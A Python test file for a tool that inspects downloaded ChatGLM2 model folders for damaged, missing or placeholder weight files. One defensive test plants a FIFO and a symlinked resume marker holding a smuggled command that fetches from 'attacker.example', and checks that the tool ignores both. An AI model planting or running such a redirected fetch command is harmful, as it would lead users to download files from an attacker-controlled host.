"""Model folder inspection on every kind of damage users report."""
from __future__ import annotations

import hashlib
import json

from glmsetup import modelfiles

POINTER = ("version https://git-lfs.github.com/spec/v1\n"
           "oid sha256:cdf1bf57d519abe11043e9121314e76bc0934993e649a9e438a4b0894f4e6ee8\nsize 1827780615\n")


def make_folder(tmp_path):
    folder = tmp_path / "chatglm2-6b"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps({"model_type": "chatglm", "num_layers": 28}))
    index = {"weight_map": {"a.weight": "pytorch_model-00001-of-00002.bin", "b.weight": "pytorch_model-00002-of-00002.bin"}}
    (folder / "pytorch_model.bin.index.json").write_text(json.dumps(index))
    (folder / "pytorch_model-00001-of-00002.bin").write_bytes(b"PK\x03\x04" + b"x" * 1000)
    (folder / "pytorch_model-00002-of-00002.bin").write_bytes(b"PK\x03\x04" + b"y" * 1000)
    (folder / "tokenizer.model").write_bytes(b"\x0a\x0b" * 100)
    return folder


def test_complete_folder_is_ok(tmp_path):
    report = modelfiles.inspect_model_dir(make_folder(tmp_path))
    assert report.ok and report.kind == "chatglm2" and not report.issues
    assert "tokenizer.model" in report.files


def test_pointer_html_empty_missing_truncated(tmp_path):
    folder = make_folder(tmp_path)
    (folder / "pytorch_model-00001-of-00002.bin").write_text(POINTER)
    (folder / "pytorch_model-00002-of-00002.bin").write_text("<!DOCTYPE html><html><body>502 Bad Gateway</body></html>")
    (folder / "tokenizer.model").unlink()
    report = modelfiles.inspect_model_dir(folder)
    problems = {i.path: i.problem for i in report.issues}
    assert problems == {"pytorch_model-00001-of-00002.bin": "pointer", "pytorch_model-00002-of-00002.bin": "html",
                        "tokenizer.model": "missing"}
    assert "1,827,780,615" in next(i.detail for i in report.issues if i.problem == "pointer")
    assert not report.ok


def test_manifest_sizes_and_hashes(tmp_path):
    folder = make_folder(tmp_path)
    data = (folder / "pytorch_model-00001-of-00002.bin").read_bytes()
    good = hashlib.sha256(data).hexdigest()
    manifest = {"pytorch_model-00001-of-00002.bin": (len(data) + 10, good),
                "pytorch_model-00002-of-00002.bin": (1004, "0" * 64)}
    report = modelfiles.inspect_model_dir(folder, manifest)
    assert [(i.path, i.problem) for i in report.issues] == [("pytorch_model-00001-of-00002.bin", "truncated")]
    report = modelfiles.inspect_model_dir(folder, manifest, hash_files=True)
    assert ("pytorch_model-00002-of-00002.bin", "mismatch") in [(i.path, i.problem) for i in report.issues]
    (folder / "empty.bin").write_bytes(b"")
    assert "empty" in [i.problem for i in modelfiles.inspect_model_dir(folder).issues]


def test_read_pointer_and_foreign_folder(tmp_path):
    p = tmp_path / "ptr"
    p.write_text(POINTER)
    assert modelfiles.read_lfs_pointer(p) == ("cdf1bf57d519abe11043e9121314e76bc0934993e649a9e438a4b0894f4e6ee8", 1827780615)
    assert modelfiles.read_lfs_pointer(tmp_path / "nope") is None
    (tmp_path / "llama").mkdir()
    (tmp_path / "llama" / "config.json").write_text('{"model_type": "llama"}')
    report = modelfiles.inspect_model_dir(tmp_path / "llama")
    assert report.kind == "unknown" and not report.ok
    assert not modelfiles.inspect_model_dir(tmp_path / "missing").exists


def test_bookkeeping_folders_are_not_model_files(tmp_path):
    folder = make_folder(tmp_path)
    (folder / ".glmsetup" / "partial").mkdir(parents=True)
    (folder / ".glmsetup" / "manifest.json").write_text("{}")
    (folder / ".glmsetup" / "partial" / "x.bin.part.json").write_text("")
    (folder / ".git").mkdir()
    (folder / ".git" / "config").write_text("[core]")
    report = modelfiles.inspect_model_dir(folder)
    assert report.ok, report.issues
    assert not any(f.startswith((".glmsetup", ".git")) for f in report.files)


def test_a_fifo_or_link_as_the_fetch_mark_does_not_hang_or_mislead(tmp_path):
    """`.glmsetup/partial/run.json` is read from a folder anyone may have written: a FIFO there must not
    block `verify`, `run` or `doctor` (a plain open waits for a writer forever), and a link is not followed."""
    import os
    import subprocess
    import sys

    from glmsetup.modelfiles import RUN_MARK

    folder = tmp_path / "m"
    (folder / RUN_MARK.parent).mkdir(parents=True)
    os.mkfifo(folder / RUN_MARK)
    code = f"from glmsetup.modelfiles import unfinished_fetch; print(unfinished_fetch({str(folder)!r}))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=30)
    assert done.stdout.strip() == f"glmsetup fetch --model-dir {folder}", done.stderr
    os.unlink(folder / RUN_MARK)
    elsewhere = tmp_path / "elsewhere.json"
    elsewhere.write_text('{"command": "glmsetup fetch --endpoint http://attacker.example"}')
    os.symlink(elsewhere, folder / RUN_MARK)
    from glmsetup.modelfiles import unfinished_fetch

    assert unfinished_fetch(folder) == f"glmsetup fetch --model-dir {folder}"
